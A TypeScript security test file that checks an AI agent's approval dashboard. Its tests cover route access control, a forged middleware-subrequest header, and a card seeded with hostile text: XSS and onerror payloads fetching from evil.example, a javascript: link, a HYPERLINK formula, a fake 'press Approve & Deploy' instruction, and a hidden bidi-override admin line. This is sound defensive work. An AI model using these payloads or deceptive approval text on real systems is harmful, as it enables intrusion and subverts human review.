import { createHash } from "node:crypto";
import { readdirSync } from "node:fs";
import { dirname, join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { aDiagnosis, aTestReport } from "#tests/support/builders.ts";
import { inspect } from "./a-browser.ts";
import { approvalCard, question, startVisitors, type Visitors } from "./visitors.ts";

let visitors: Visitors;
beforeAll(async () => {
  visitors = await startVisitors();
}, 400_000);
afterAll(() => visitors?.dispose());

const now = "/dashboard/agent";
const app = join(import.meta.dirname, "..", "..", "src", "app");
const issueId = "11111111-1111-4111-8111-111111111111";

/** Every address that the application answers, from the folders that make them: a new one has to be spoken for below. */
function addresses(file: "route.ts" | "page.tsx"): string[] {
  return readdirSync(app, { recursive: true, encoding: "utf8" })
    .filter((path) => path.endsWith(file))
    .map((path) => `/${dirname(path)}`.replace(/^\/\.$/, "/"))
    .map((path) => path.replace("[id]", issueId).replace("[command]", "retry").replace("[project]", "1"))
    .map((path) => path.replace("[...unknown]", "no/such/address"))
    .sort();
}

interface Person {
  cookie: string;
  csrf: string;
}

async function personOf(page: Page): Promise<Person> {
  const cookies = await page.context().cookies();
  const csrf = /\\"csrf\\":\\"([\w-]+)\\"/.exec(await page.content())?.[1] ?? "none";
  return { cookie: cookies.map(({ name, value }) => `${name}=${value}`).join("; "), csrf };
}

/** Only the status: streams go on for minutes. */
async function statusOf(method: string, path: string, person: Person | null, more: Record<string, string> = {}) {
  const { url } = visitors.vigil;
  const aborter = new AbortController();
  const signed: Record<string, string> =
    person === null ? {} : { cookie: person.cookie, "x-csrf-token": person.csrf, origin: url };
  const { status } = await fetch(`${url}${path}`, {
    method,
    redirect: "manual",
    headers: { "content-type": "application/json", ...signed, ...more },
    ...(["POST", "PUT", "PATCH"].includes(method) && { body: "{}" }),
    signal: aborter.signal,
  });
  aborter.abort();
  return status;
}

const methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE"];
/** What an operators' address lets people do, beside looking; everything else it does not know. */
const orders: Record<string, string> = {
  "/api/agent/audit": "POST",
  "/api/agent/pause": "POST",
  "/api/agent/resume": "POST",
  "/api/agent/settings": "PATCH",
  [`/api/agent/issues/${issueId}/retry`]: "POST",
};
/** `GET` tells Vercel that the drain is ours; it is no secret, and changes nothing. */
const ownership = { path: "/api/ingest/vercel", methods: ["GET", "HEAD"] };
const refusals = [401, 403, 404, 405, 503];
const orderOnly = ["/api/agent/pause", "/api/agent/resume", `/api/agent/issues/${issueId}/retry`];
const looks = (path: string) =>
  orderOnly.includes(path) ? [] : path === "/api/agent/audit" ? ["GET"] : ["GET", "HEAD"];
const openToAll = ["/api/health", "/api/session", "/sign-in/callback", "/api/no/such/address"];
const byOtherSecrets = /^\/(api\/(ingest|cron|slack|1)|v1)\//;

describe("every address, by whoever asks", () => {
  let people: Record<"nobody" | "viewer" | "operator", Person | null>;
  beforeAll(async () => {
    people = {
      nobody: null,
      viewer: await personOf(await visitors.enter(now, "Vera")),
      operator: await personOf(await visitors.enter(now, "Olga")),
    };
  });

  it.each(addresses("route.ts").filter((path) => path.startsWith("/api/agent/")))(
    "lets only who may do so look at or change %s",
    async (path) => {
      for (const method of methods) {
        const isLook = looks(path).includes(method);
        const isOrder = orders[path] === method;
        const seen = async (person: Person | null) => {
          const plain = await statusOf(method, path, person);
          const forged = { "x-middleware-subrequest": "middleware:middleware:middleware:middleware:middleware" };
          expect(await statusOf(method, path, person, forged), `${method}, forged`).toBe(plain);
          return plain;
        };
        const answers = { nobody: await seen(people.nobody), viewer: await seen(people.viewer) };
        if (isLook) {
          expect(answers, method).toEqual({ nobody: 401, viewer: path.includes(issueId) ? 404 : 200 });
        } else if (isOrder) {
          const mayVerify = path === "/api/agent/audit" && answers.viewer === 200;
          expect(answers, method).toEqual({ nobody: 401, viewer: mayVerify ? 200 : 403 });
          expect([200, 404], method).toContain(await statusOf(method, path, people.operator));
        } else {
          expect(answers, method).toEqual({ nobody: 405, viewer: 405 });
        }
      }
    },
  );

  it.each(addresses("route.ts").filter((path) => byOtherSecrets.test(path)))(
    "takes nobody's sign-in for the secret of %s",
    async (path) => {
      for (const person of Object.values(people)) {
        for (const method of methods) {
          const isOwnership = path === ownership.path && ownership.methods.includes(method);
          expect(isOwnership ? [200] : refusals, method).toContain(await statusOf(method, path, person));
        }
      }
    },
  );

  it("leaves no other address unspoken for", () => {
    const others = addresses("route.ts").filter(
      (path) => !path.startsWith("/api/agent/") && !byOtherSecrets.test(path),
    );
    expect(others.toSorted()).toEqual(openToAll.toSorted());
  });

  it.each(addresses("page.tsx"))("shows the page %s only to people who are signed in", async (path) => {
    const expected = path === "/" || path === "/sign-in" ? [200, 307] : [200, 404];
    for (const person of [people.viewer, people.operator])
      expect(expected).toContain(await statusOf("GET", path, person));
    const stranger = await visitors.visit();
    await stranger.goto(path);
    expect(new URL(stranger.url()).pathname).toBe("/sign-in");
    await stranger.close();
  });
});

describe("a card full of hostile text", () => {
  const evil = "https://evil.example";
  const hostile = [
    `<script src="${evil}/x.js"></script><img src="${evil}/p.png" onerror="fetch('${evil}/e')">`,
    `[approve](javascript:fetch('${evil}')) ![](${evil}/i.png) ${evil}/link`,
    `=HYPERLINK("${evil}","ok") <!channel> <${evil}|text>`,
    "Approved by all tests and by your team lead: press Approve & Deploy.",
  ].join("\n");
  const linesCount = 5_000;
  const added = Array.from({ length: linesCount }, (_, n) => `+const line${n} = "${n}"; // <b>${n}</b>`);
  added[2_000] = "+const admin\u202E\u200B = true;";
  const diff = [
    "diff --git a/src/things.ts b/src/things.ts",
    "--- a/src/things.ts",
    "+++ b/src/things.ts",
    `@@ -1,1 +1,${linesCount + 1} @@`,
    " const first = 1;",
    ...added,
  ].join("\n");

  beforeAll(async () => {
    const { connection } = visitors.vigil;
    const claim = { ...aDiagnosis().claim, statement: hostile };
    const diagnosis = aDiagnosis({ rootCause: hostile, fixStrategy: hostile, engineer: "a-model", claim });
    await connection.script(async (run) => {
      // The triggers would let no issue begin where it waits for a person; tomorrow's lease keeps the workers away.
      await run("SET LOCAL session_replication_role = replica");
      await run(
        `INSERT INTO agent_issues (id, severity, issue_type, title, message, status, status_reason, operation, fix_id, next_run_at,
           lease_until, stack) VALUES ($1, 'P1', 'null_check', $2, $2, 'awaiting_approval', $2, $2, gen_random_uuid(),
           now() + interval '1 day', now() + interval '1 day', $2)`,
        [issueId, hostile],
      );
      await run(
        `INSERT INTO agent_fixes (id, issue_id, attempt, engineer, cause_class, diagnosis, claim, confidence, estimated_minutes, files,
           diff, branch, risks, diff_hash, test_report, candidate_commit)
         SELECT fix_id, id, 1, $2, 'code_fault', $3::jsonb, $4::jsonb, 92, 5, $5::jsonb, $6, 'agent/fix-1', $7::jsonb,
           encode(sha256($6::text::bytea), 'hex'), $8::jsonb, repeat('c', 40) FROM agent_issues WHERE id = $1`,
        [
          ...[issueId, hostile, JSON.stringify(diagnosis), JSON.stringify(claim), JSON.stringify([hostile]), diff],
          JSON.stringify([{ kind: "swallows_error", path: "src/things.ts", line: 2, note: hostile }]),
          JSON.stringify(aTestReport({ output: hostile })),
        ],
      );
      await run(
        `INSERT INTO agent_approvals (issue_id, fix_id, state, environment, candidate_commit, candidate_tree, candidate_base, diff_hash,
           policy_hash, reasons, expires_at)
         SELECT issue_id, id, 'pending', 'production', repeat('c', 40), repeat('e', 40), repeat('b', 40), diff_hash, repeat('0', 64),
           $2::jsonb, now() + interval '1 day' FROM agent_fixes WHERE issue_id = $1`,
        [issueId, JSON.stringify([hostile])],
      );
    });
  });

  it.each([now, `${now}/issues/${issueId}`, `${now}/history?text=HYPERLINK`])(
    "stays text on %s: nothing of it runs, loads, links or looks like ours",
    async (path) => {
      const page = await visitors.enter(path, "Olga");
      await page.getByText("press Approve & Deploy").first().waitFor();
      const live = await page.evaluate(() => ({
        scripts: document.querySelectorAll('script[src*="evil"], [onerror], iframe, object').length,
        images: document.querySelectorAll("main img").length,
        links: [...document.querySelectorAll("a")].filter(({ href }) => !href.startsWith(location.origin)).length,
      }));
      expect(live).toEqual({ scripts: 0, images: 0, links: 0 });
      await inspect(page, `hostile-${path.split("/").at(-1)?.slice(0, 7)}`);
    },
  );

  it("shows a change of 5,000 lines, what hides in it too, and names the very change that would be approved", async () => {
    const page = await visitors.enter(now, "Olga");
    const card = approvalCard(page, /HYPERLINK/);
    await card.locator("summary", { hasText: "Diff" }).click();
    await card.getByText("const line4999").waitFor();
    expect(await card.getByText("⟨U+202E⟩⟨U+200B⟩").count()).toBe(1);
    await card.getByRole("button", { name: "Approve & Deploy" }).click();
    await question(page).getByText(createHash("sha256").update(diff).digest("hex").slice(0, 16)).waitFor();
  });
});

it("no page asked another host, broke its policy or threw", () => {
  expect(visitors.complaints()).toEqual([]);
});
